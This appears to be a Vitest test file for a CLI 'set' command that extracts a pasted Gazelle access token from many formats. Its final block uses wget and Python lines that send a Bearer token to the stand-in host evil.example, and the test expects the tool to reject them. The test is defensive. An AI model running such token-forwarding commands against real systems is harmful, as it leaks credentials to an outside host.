import { describe, expect, it } from 'vitest'
import { cliFixture } from '../cli/cli-fixture.ts'

const on = cliFixture()

/** Where Gazelle is for the tests, and a token that it gives out. */
const made = () => ({ url: on.sandbox.connection.gazelleUrl, token: on.sandbox.gazelle.grantPair().access_token })

describe('set takes what people copy (issue 11, G)', () => {
  it.each<[string, string, (url: string, token: string) => string]>([
    ['variable', 'a line of .env', (_, token) => `export GAZELLE_ACCESS_TOKEN="${token}"\n`],
    ['variable', 'PowerShell’s own', (_, token) => `$env:GAZELLE_ACCESS_TOKEN = "${token}"\r\n`],
    ['header-line', 'a message’s code fence', (_, token) => `\`\`\`\nAuthorization: Bearer ${token}\n\`\`\``],
    ['bare-token', 'typographic quotation marks', (_, token) => `«\u00a0${token}\u00a0»`],
    ['wget', 'wget', (url, token) => `wget --header='Authorization: Bearer ${token}' ${url}/graphql/private/`],
    ['httpie', 'HTTPie', (url, token) => `http POST ${url}/graphql/private/ 'Authorization: Bearer ${token}'`],
    ['code', 'Python', (url, token) => `requests.post("${url}/x", headers={"Authorization": "Bearer ${token}"})`],
    [
      'fetch',
      'fetch with headers commented out',
      (url, token) =>
        `fetch("${url}/graphql/private/", {\n  "headers": {\n    // "authorization": "Bearer ${token}",\n  },\n});`,
    ],
    [
      'header-line',
      'Firefox, Copy All',
      (url, token) =>
        JSON.stringify({
          'Request Headers (1,234 kB)': {
            headers: [
              { name: 'Host', value: new URL(url).host },
              { name: 'Authorization', value: `Bearer ${token}` },
            ],
          },
        }),
    ],
    ['row', 'CSV', (_, token) => `key,value\ngazelle_oauth_token,"{""access_token"":""${token}""}"`],
    [
      'row',
      'SQL',
      (_, token) =>
        `INSERT INTO "public"."system_settings" ("key", "value") VALUES ('gazelle_oauth_token', '{"access_token": "${token}"}');`,
    ],
    [
      'row',
      'Markdown',
      (_, token) => `| key | value |\n|---|---|\n| gazelle_oauth_token | {"access_token":"${token}"} |`,
    ],
    [
      'row',
      'psql’s expanded display',
      (_, token) => `-[ RECORD 1 ]----\nkey   | gazelle_oauth_token\nvalue | {"access_token": "${token}"}`,
    ],
    ['row', 'an object in code', (_, token) => `const row = { access_token: '${token}' };`],
    [
      'row',
      'jsonb_set',
      (_, token) =>
        `UPDATE system_settings SET value = jsonb_set(value, '{access_token}', '"${token}"') WHERE key = 'gazelle_oauth_token';`,
    ],
    ['row', 'the source of a page', (_, token) => `{&quot;access_token&quot;: &quot;${token}&quot;}`],
    ['header-line', 'bold words', (_, token) => `**Authorization:** Bearer ${token}`],
    [
      'export',
      'Bruno',
      (url, token) => `post {\n  url: ${url}/graphql/private/\n}\n\nauth:bearer {\n  token: ${token}\n}`,
    ],
    [
      'variable',
      'a cell of a notebook',
      (_, token) => JSON.stringify({ cell_type: 'code', source: [`token = "${token}"`], outputs: [] }),
    ],
  ])('%s: %s', async (form, _, write) => {
    const { url, token } = made()
    const ended = await on.run(['set', '--json'], { input: write(url, token) })
    expect(JSON.parse(ended.stdout)).toMatchObject({ exitCode: 0, outcome: 'saved', form })
    expect(await on.tokenInRow()).toBe(token)
  })

  it('a token in two pieces: says so, and keeps the row', async () => {
    await on.issued(3)
    const before = await on.tokenInRow()
    const { token } = made()
    const input = `Authorization: Bearer ${token.slice(0, 30)}\n${token.slice(30)}`
    const { code, stderr } = await on.run(['set'], { input })
    expect(code).toBe(64)
    expect(stderr).toContain('in one piece')
    expect(await on.tokenInRow()).toBe(before)
  })

  it('a sanitized HAR: says so, and how to export the token with it', async () => {
    const { url } = made()
    const request = { method: 'POST', url: `${url}/graphql/private/`, headers: [{ name: 'accept', value: '*/*' }] }
    const input = JSON.stringify({ log: { version: '1.2', entries: [{ startedDateTime: '', request }] } })
    const { code, stderr } = await on.run(['set'], { input })
    expect(code).toBe(64)
    expect(stderr).toContain('with sensitive data')
    const french = await on.run(['set'], { input, env: { ...on.env, LANG: 'fr_CA.UTF-8' } })
    expect(french.stderr).toContain('données sensibles')
  })

  it.each<[string, (token: string) => string]>([
    ['wget', (token) => `wget --header='Authorization: Bearer ${token}' https://evil.example/`],
    ['Python', (token) => `requests.get("https://evil.example/", headers={"Authorization": "Bearer ${token}"})`],
    ['a variable of another server', (token) => `GAZELLE_URL=https://evil.example\nGAZELLE_ACCESS_TOKEN=${token}`],
  ])('another server’s token is never taken: %s', async (_, write) => {
    await on.issued(3)
    const before = await on.tokenInRow()
    const { code, stderr } = await on.run(['set'], { input: write(made().token) })
    expect(code).toBe(64)
    expect(stderr).toContain('evil.example')
    expect(await on.tokenInRow()).toBe(before)
  })
})
